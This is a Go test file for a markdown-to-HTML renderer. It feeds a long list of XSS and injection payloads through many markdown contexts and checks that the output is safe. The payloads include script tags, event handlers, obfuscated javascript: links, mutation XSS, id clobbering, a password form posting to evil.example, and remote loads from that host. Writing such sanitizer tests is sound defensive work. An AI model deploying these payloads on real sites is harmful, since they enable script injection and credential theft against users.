package markup

import (
	"strings"
	"testing"
)

// careless is a resolver that trusts whatever it is asked about, the worst that a site
// could do.
func careless(dest string, image bool) Target { return Target{Href: dest, Image: image} }

// hostile is text that means to run, to load, to leave its place or to pose as the page.
var hostile = []struct{ name, text string }{
	{"script", "<script>alert(1)</script>"},
	{"script in a paragraph", "a <script>alert(1)</script> b"},
	{"script never closed", "<script>alert(1)"},
	{"script of a source", `<script src=//evil.example/x.js></script>`},
	{"script in odd case", "<ScRiPt\n>alert(1)</sCrIpT\t>"},
	{"script with a slash", "<script/x>alert(1)</script>"},
	{"script behind NUL", "<scr\x00ipt>alert(1)</script>"},
	{"script in a comment that ends early", "<!--><script>alert(1)</script>-->"},
	{"script in a comment with a bang", "<!-- --!><script>alert(1)</script>"},
	{"script in CDATA", "<![CDATA[<script>alert(1)</script>]]>"},
	{"processing instruction", "<?xml-stylesheet href=\"javascript:alert(1)\"?>"},
	{"declaration", "<!DOCTYPE html [<!ENTITY x \"y\">]>"},
	{"handler", `<img src=x onerror=alert(1)>`},
	{"handler in a text", `a <b onmouseover="alert(1)">c</b>`},
	{"handler on svg", `<svg/onload=alert(1)>`},
	{"handler on body", `<body onload=alert(1)>`},
	{"handler on details", `<details open ontoggle=alert(1)>`},
	{"handler behind odd blanks", "<img\x0csrc=x\x0conerror=alert(1)>"},
	{"svg script", `<svg><script>alert(1)</script></svg>`},
	{"svg use", `<svg><use href="data:image/svg+xml;base64,PHN2Zz4="></use></svg>`},
	{"svg animate", `<svg><a><animate attributeName=href values=javascript:alert(1) /></a></svg>`},
	{"svg foreign object", `<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>`},
	{"math", `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`},
	{"mutation by noscript", `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`},
	{"mutation by template", `<template><style></template><img src=x onerror=alert(1)>`},
	{"iframe", `<iframe src="https://evil.example"></iframe>`},
	{"iframe srcdoc", `<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">`},
	{"object and embed", `<object data="javascript:alert(1)"><embed src="javascript:alert(1)">`},
	{"base", `<base href="https://evil.example/">`},
	{"meta refresh", `<meta http-equiv="refresh" content="0;url=https://evil.example">`},
	{"link to a style sheet", `<link rel=stylesheet href=//evil.example/x.css>`},
	{"style element", `<style>body{display:none}</style>`},
	{"style attribute", `<div style="position:fixed;inset:0;background:url(//evil.example)">`},
	{"form", `<form action="https://evil.example"><input name=password type=password><button formaction="javascript:alert(1)">Go</button></form>`},
	{"video and audio", `<video poster="javascript:alert(1)" src=x onerror=alert(1)><audio src=x>`},
	{"marquee", `<marquee onstart=alert(1)>x</marquee>`},
	{"portal and dialog", `<dialog open><portal src="https://evil.example">`},
	{"end of the page", "</main></body></html><script>alert(1)</script>"},
	{"end of elements", "</code></pre></span></div></main>"},
	{"end of elements in code", "```\n</code></pre><script>alert(1)</script>\n```"},
	{"end of elements in a code span", "`</code><script>alert(1)</script>`"},
	{"end of a textarea and a title", "</textarea></title><script>alert(1)</script>"},
	{"id clobbering", `<a id=main name=nav></a><form id=location><input name=href>`},
	{"id clobbering by a heading", "# main\n# L1\n# __proto__\n# constructor\n"},
	{"heading with markup", "# <script>alert(1)</script> \" onclick=x\n"},
	{"heading with quotes", "# a\" onmouseover=\"alert(1)\n# 'a'\n"},
	{"headings of one id", "# a\n# a\n# a-1\n# a\n"},
	{"heading attributes", "# a {#main onclick=alert(1)}\n"},
	{"javascript", "[a](javascript:alert(1))"},
	{"javascript in odd case", "[a](JaVaScRiPt:alert(1))"},
	{"javascript with an entity", "[a](javascript&colon;alert(1))"},
	{"javascript with a numeric entity", "[a](&#106;avascript:alert(1)) [b](&#x6A;avascript&#58;alert(1))"},
	{"javascript with a padded entity", "[a](&#0000106avascript:alert(1)) [a](&#0000106;avascript:alert(1))"},
	{"javascript with a tab", "[a](<java\tscript:alert(1)>) [b](java&Tab;script:alert(1))"},
	{"javascript with a line feed", "[a](java&NewLine;script:alert(1)) [a](java&#10;script:alert(1))"},
	{"javascript behind a blank", "[a](< javascript:alert(1)>) [a](&#32;javascript:alert(1))"},
	{"javascript behind a control character", "[a](\x01javascript:alert(1)) [b](&#1;javascript:alert(1)) [c](&#x1f;javascript:alert(1))"},
	{"javascript with a backslash", `[a](javascript\:alert(1)) [b](\javascript:alert(1))`},
	{"javascript percent-encoded", "[a](javascript%3Aalert(1)) [b](%6aavascript:alert(1))"},
	{"javascript behind an invisible character", "[a](\u200bjavascript:alert(1)) [b](java\u00adscript:alert(1)) [c](\ufeffjavascript:alert(1))"},
	{"javascript with a soft hyphen entity", "[a](java&shy;script:alert(1))"},
	{"javascript with slashes", "[a](javascript://x%0aalert(1)) [b](javascript:/**/alert(1))"},
	{"javascript in an autolink", "<javascript:alert(1)> <JAVASCRIPT:alert(1)>"},
	{"javascript in a reference", "[a][b] [b]\n\n[b]: javascript:alert(1) \"t\"\n"},
	{"javascript in an image", "![a](javascript:alert(1)) [![b](javascript:alert(1))](javascript:alert(2))"},
	{"vbscript", "[a](vbscript:msgbox(1)) <vbscript:x>"},
	{"data", "[a](data:text/html,<script>alert(1)</script>) <data:text/html,x>"},
	{"data of base64", "[a](data:text/html;base64,PHNjcmlwdD4=) ![b](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"},
	{"data with markup", "![b](<data:image/svg+xml;base64,\" onerror=alert(1) x=\">)"},
	{"other schemes", "[a](file:///etc/passwd) [b](blob:x) [c](filesystem:x) [d](view-source:x) [e](chrome://x) [f](about:blank) [g](ws://x) [h](ftp://x) [i](tel:1) [j](intent://x)"},
	{"protocol-relative", "[a](//evil.example) ![b](//evil.example/x.png)"},
	{"backslashes for slashes", `[a](\\\\evil.example) [b](/\\evil.example) ![c](/\\evil.example/x.png)`},
	{"slashes with blanks", "[a](/&Tab;/evil.example) [b](&sol;/evil.example) [c](/&#13;/evil.example)"},
	{"remote image", "![a](https://evil.example/pixel.png) ![b](http://evil.example/x.svg)"},
	{"quotes in a destination", `[a](<x" onclick="alert(1)>) ![b](<x" onerror="alert(1)>) [c](x'onclick='alert(1))`},
	{"quotes in an outside destination", `[a](<https://x/" onclick="alert(1)>) <https://x/"onclick="alert(1)>`},
	{"markup in a destination", `[a](<x><script>alert(1)</script>)`},
	{"quotes in a title", `[a](x "\" onmouseover=\"alert(1)") [b](x '" onmouseover="alert(1)') [c](x (" onmouseover="alert(1)))`},
	{"entities in a title", `[a](x "&quot; onmouseover=&quot;alert(1)") ![b](y "&quot;><script>alert(1)</script>")`},
	{"markup in a description", `![<img src=x onerror=alert(1)>](x.png) !["onerror="alert(1)](x.png)`},
	{"link in a description", "![[a](javascript:alert(1))](x.png)"},
	{"markup in a definition", "[a]: <x\"><script>alert(1)</script>> \"t\"><script>alert(1)</script>\"\n\n[a]\n"},
	{"label with markup", "[<script>alert(1)</script>][a]\n\n[a]: x\n"},
	{"link in a link", "[a [b](x) c](y) [![a](x)](y) [<https://x.example>](y) [https://x.example](z)"},
	{"entities of markup", "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62; &LT;img src=x onerror=alert(1)&GT;"},
	{"entities without an end", "&lt &#60 &amp;lt; &amp;amp;lt; &#x3c"},
	{"entities of nothing", "&#0; &#xD800; &#1114112; &#99999999999999999; &#x80; &#x9f;"},
	{"NUL", "a\x00b [c\x00](d\x00) `e\x00` ![f\x00](g\x00.png)"},
	{"bytes that are not UTF-8", "a\xff\xfe [b](c\xc0\xbc) `\xe2\x80` \xf0\x9f\n\n# \xed\xa0\x80\n"},
	{"overlong angle bracket", "\xc0\xbcscript\xc0\xbe \xe0\x80\xbcscript\xe0\x80\xbe"},
	{"half-width and full-width", "＜script＞alert(1)＜/script＞ \u2039script\u203a"},
	{"UTF-7", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"},
	{"unclosed marks", "**a _b ~~c `d [e](f [g][h ![i <j \"k"},
	{"unclosed quote in a tag", `<a href="x><script>alert(1)</script>`},
	{"unclosed comment", "<!-- <script>alert(1)</script>"},
	{"tag over lines", "<a\nhref\n=\njavascript:alert(1)\n>x</a>"},
	{"fence with an info string", "```\"><script>alert(1)</script>\nx\n```\n~~~ js onclick=alert(1)\nx\n~~~\n"},
	{"fence with a class", "```python\" onclick=\"alert(1)\n1\n```"},
	{"table with markup", "| <script>alert(1)</script> | \" onclick=x |\n|:-:|--:|\n| <img src=x onerror=alert(1)> | `</td>` \\| |\n"},
	{"table with odd alignment", "|a|b|\n|:\"><script>-|-|\n|c|d|\n\n|a|\n|:-:|\n"},
	{"task list with markup", "- [x] <input onfocus=alert(1) autofocus>\n- [ ] [a](javascript:alert(1))\n"},
	{"list that starts with a number", "999999999. a\n\n-1. b\n0. c\n"},
	{"footnote", "a[^1]\n\n[^1]: <script>alert(1)</script>\n"},
	{"direction override", "a \u202e[txt.exe](x)\u202c \u2066b\u2069 # \u200e\n\n# \u202eevil\n"},
	{"direction override in attributes", "[a](x \"\u202et\") ![b\u202e](c.png \"\u2066\") [d](https://x/\u202e)"},
	{"tag characters", "hi\U000e0041\U000e0042\U000e007f and \ufe00\ufe01"},
	{"escape sequences", "\x1b[31mred\x1b]8;;https://evil.example\x07link\x1b]8;;\x07 \x9b31m \u009b31m"},
	{"carriage return tricks", "a\r<script>\ralert(1)\r</script>\r\n[a](java\rscript:alert(1))"},
	{"line separators", "a\u2028<script>alert(1)</script>\u2029b"},
	{"srcset and friends", `<img srcset="//evil.example 1x"><picture><source srcset=x></picture><a ping=//evil.example href=x>a</a>`},
	{"import map", `<script type="importmap">{"imports":{"x":"//evil.example"}}</script>`},
	{"slot and shadow root", `<div><template shadowrootmode=open><script>alert(1)</script></template></div>`},
	{"custom element", `<x-widget onclick=alert(1) is=x></x-widget>`},
	{"plaintext and xmp", "<plaintext><xmp><listing>"},
	{"frameset", `<frameset><frame src="javascript:alert(1)">`},
	{"conditional comment", "<!--[if IE]><script>alert(1)</script><![endif]-->"},
	{"template of the page", "{{.Secret}} {{define \"x\"}} ${x} <%= x %>"},
	{"mail", "<a@b.example> [c](mailto:d@e.example?subject=<script>) <mailto:x@y.example>"},
	{"bare links", "https://a.example/\"onclick=alert(1) www.b.example/<script> http://c.example/'x' https://[::1]/ https://user:pass@d.example"},
	{"dot segments", "[a](../../../../etc/passwd) ![b](../../x.png) [c](%2e%2e/x) [d](./javascript:alert(1))"},
	{"colon in a relative path", "[a](a:b/c) [b](1:2) [c](a%3ab) [d](?a:b) [e](#a:b) [f](C:\\x)"},
}

func TestHostile(t *testing.T) {
	if len(hostile) < 80 {
		t.Errorf("%d attacks", len(hostile))
	}
	for _, tt := range hostile {
		t.Run(tt.name, func(t *testing.T) {
			for _, text := range variants(tt.text) {
				for _, link := range []func(string, bool) Target{nil, careless} {
					doc := Markdown([]byte(text), MarkdownOptions{Link: link})
					requireSafe(t, string(doc.HTML))
					for _, l := range doc.Links {
						if l.Target.Href != "" && !safeHref.MatchString(l.Target.Href) && !isSVGData(l.Target.Href) {
							t.Errorf("link to %q", l.Target.Href)
						}
					}
				}
			}
			for _, l := range languages {
				for name := range strings.FieldsSeq(l.names) {
					requireSafe(t, string(Code([]byte(tt.text), "x."+name).HTML))
					break
				}
			}
			requireSafe(t, string(Code([]byte("x"), tt.text).HTML))
			requireSafe(t, string(Hex([]byte(tt.text))))
		})
	}
}

// variants puts a text where other things are around it.
func variants(text string) []string {
	line := strings.ReplaceAll(text, "\n", " ")
	return []string{
		text, "> " + strings.ReplaceAll(text, "\n", "\n> "), "- " + strings.ReplaceAll(text, "\n", "\n  "), "# " + line + "\n",
		"| " + line + " |\n|---|\n| " + line + " |\n", "**" + line + "** ~~" + line + "~~", "[" + line + "](x.md)", "![" + line + "](x.png)",
		"```html\n" + text + "\n```\n", "    " + line, "`" + line + "`", "<div>\n" + text + "\n</div>\n", "a <b>" + line + "</b>", "[a](" + line + ")", "[a](<" + line + ">)", "![a](" + line + ")",
		"[a](x \"" + line + "\")", "[a]: " + line + "\n\n[a]\n", "<" + line + ">", "- [ ] " + line, "https://x.example/" + line, "&" + line + ";", "\\" + line,
	}
}
